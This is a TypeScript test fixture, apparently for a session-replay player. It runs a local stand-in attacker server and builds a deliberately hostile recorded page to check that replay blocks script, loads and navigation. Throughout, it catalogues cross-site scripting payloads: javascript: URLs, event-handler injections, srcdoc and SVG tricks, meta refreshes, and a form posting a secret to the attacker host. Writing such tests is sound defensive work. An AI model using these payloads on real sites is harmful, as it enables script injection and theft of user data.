import { createServer } from 'node:http'
import type { RecordedEvent } from './visit-recorder.ts'

/** A site of an attacker that notices every request. */
export interface Attacker {
  readonly host: string
  readonly requests: readonly string[]
  close(): Promise<void>
}

export async function startAttacker(): Promise<Attacker> {
  const requests: string[] = []
  const server = createServer((request, response) => {
    requests.push(request.url ?? '')
    const script = 'try { top.hacked = "loaded script" } catch {} ; window.hacked = "loaded script"'
    const html = request.url?.includes('frame')
    response
      .writeHead(200, {
        'content-type': html ? 'text/html' : 'text/javascript',
        'access-control-allow-origin': '*',
      })
      .end(html ? `<script>${script}</script>` : script)
  })
  await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening))
  const address = server.address()
  return {
    host: `127.0.0.1:${address && typeof address === 'object' ? address.port : 0}`,
    requests,
    close: () =>
      new Promise((closed) => {
        server.close(() => closed())
        server.closeAllConnections()
      }),
  }
}

interface Built {
  readonly type: number
  readonly id: number
  readonly [name: string]: unknown
}

/** A recording that no recorder would make: every way that we know of to run, load, send or lead away. */
export function hostileRecording(startedAt: number, attacker: string): RecordedEvent[] {
  const evil = `http://${attacker}`
  const run = 'try{top.hacked=1}catch{};try{parent.parent.hacked=1}catch{};window.hacked=1;alert(1)'
  let ids = 1
  const text = (textContent: string): Built => ({ type: 3, textContent, id: ++ids })
  const element = (
    tagName: string,
    attributes: object = {},
    childNodes: readonly Built[] = [],
    more: object = {},
  ): Built => ({
    type: 2,
    tagName,
    attributes,
    childNodes,
    id: ++ids,
    ...more,
  })
  const later = element('a', { id: 'later', href: '#' }, [text('Harmless at first')])
  const frame = element('iframe', { id: 'frame', src: `${evil}/frame`, srcdoc: `<script>${run}</script>` })
  const html = element('html', { onload: run }, [
    element('head', {}, [
      element('base', { href: `${evil}/`, target: '_top' }),
      element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
      element('meta', { 'http-equiv': 'Set-Cookie', content: 'stolen=1' }),
      element('link', { rel: 'stylesheet', href: `${evil}/style` }),
      element('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
      element('link', { rel: 'preload', as: 'script', href: `${evil}/preload` }),
      element('link', { rel: 'modulepreload', href: `${evil}/modulepreload` }),
      element('link', { rel: 'manifest', href: `${evil}/manifest` }),
      element('script', { src: `${evil}/script` }),
      element('script', {}, [text(run)]),
      element('script', { type: 'module' }, [text(run)]),
      element('style', { _cssText: `@import url(${evil}/import); body{background:url(${evil}/background)}` }),
      element('noscript', {}, [element('img', { src: `${evil}/noscript` })]),
    ]),
    element('body', { onload: run, onpageshow: run, background: `${evil}/body` }, [
      element('h1', {}, [text('A page that means harm')]),
      element('img', { src: `${evil}/picture`, onerror: run, onload: run, srcset: `${evil}/srcset 2x` }),
      element('img', { src: 'data:image/png;base64,broken', ONERROR: run }),
      element(
        'svg',
        { onload: run },
        [
          element('script', { 'xlink:href': `${evil}/svg-script` }, [text(run)], { isSVG: true }),
          element('animate', { onbegin: run, attributeName: 'href', values: `javascript:${run}` }, [], {
            isSVG: true,
          }),
          element('use', { 'xlink:href': `${evil}/use#x` }, [], { isSVG: true }),
          element('foreignObject', {}, [element('img', { src: 'x', onerror: run })], { isSVG: true }),
        ],
        { isSVG: true },
      ),
      element('a', { id: 'script-link', href: `javascript:${run}` }, [text('A script')]),
      element('a', { id: 'spaced-link', href: ` java\nscript:${run}` }, [text('A script with a space')]),
      element('a', { id: 'top-link', href: `${evil}/top`, target: '_top' }, [text('Leads away')]),
      element('a', { id: 'blank-link', href: `${evil}/blank`, target: '_blank', ping: `${evil}/ping` }, [
        text('Opens'),
      ]),
      frame,
      element('iframe', { src: `javascript:${run}` }),
      element('frame', { src: `${evil}/frame-element` }),
      element('object', { data: `${evil}/object`, type: 'text/html' }),
      element('embed', { src: `${evil}/embed` }),
      element('form', { id: 'form', action: `${evil}/form`, method: 'post', onsubmit: run }, [
        element('input', { name: 'secret', value: 'typed', autofocus: true, onfocus: run }),
        element('button', { id: 'send', formaction: `javascript:${run}` }, [text('Send')]),
      ]),
      element('video', {
        src: `${evil}/video`,
        poster: `${evil}/poster`,
        onerror: run,
        autoplay: true,
        rr_mediaState: 'played',
      }),
      element('audio', { src: `${evil}/audio`, autoplay: true }),
      element('details', { open: '', ontoggle: run }, [element('summary', {}, [text('Open')])]),
      element('x-evil', {}, [text('Custom')], { isCustom: true, isShadowHost: true }),
      element('canvas', { rr_dataURL: `${evil}/canvas` }),
      element('dialog', { open: '', rr_open_mode: 'modal', oncancel: run }, [text('A dialog')]),
      later,
    ]),
  ])
  const document: Built = {
    type: 0,
    id: 1,
    childNodes: [{ type: 1, name: 'html', publicId: '', systemId: '', id: ++ids }, html],
  }
  const change = (after: number, data: object): RecordedEvent => ({
    type: 3,
    timestamp: startedAt + after,
    data,
  })
  const body = html.childNodes as readonly Built[]
  const bodyId = body[1]?.id ?? 0
  return [
    { type: 4, timestamp: startedAt, data: { href: `javascript:${run}`, width: 1000, height: 600 } },
    { type: 2, timestamp: startedAt + 10, data: { node: document, initialOffset: { top: 0, left: 0 } } },
    {
      type: 5,
      timestamp: startedAt + 50,
      data: { tag: 'console', payload: { level: 'log', message: `<img src=x onerror="${run}">` } },
    },
    {
      type: 5,
      timestamp: startedAt + 60,
      data: { tag: 'network', payload: { method: 'GET', url: `javascript:${run}`, status: 200 } },
    },
    change(100, {
      source: 0,
      texts: [],
      removes: [],
      attributes: [
        {
          id: later.id,
          attributes: {
            href: `javascript:${run}`,
            onclick: run,
            style: { background: `url(${evil}/inline)` },
          },
        },
        { id: frame.id, attributes: { src: `${evil}/frame-later`, srcdoc: `<script>${run}</script>` } },
      ],
      adds: [
        {
          parentId: bodyId,
          nextId: null,
          node: element('script', { src: `${evil}/script-later` }, [text(run)]),
        },
        {
          parentId: bodyId,
          nextId: null,
          node: element('img', { src: `${evil}/picture-later`, onerror: run }),
        },
        {
          parentId: bodyId,
          nextId: null,
          node: element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh-later` }),
        },
      ],
    }),
    change(150, { source: 8, id: later.id, adds: [{ rule: `body{background:url(${evil}/rule)}` }] }),
    change(200, { source: 10, family: 'Evil', fontSource: `url(${evil}/font)`, buffer: false }),
    change(250, { source: 2, type: 2, id: later.id, x: 10, y: 10 }),
    change(1_500, { source: 1, positions: [{ x: 5, y: 5, id: later.id, timeOffset: 0 }] }),
  ]
}
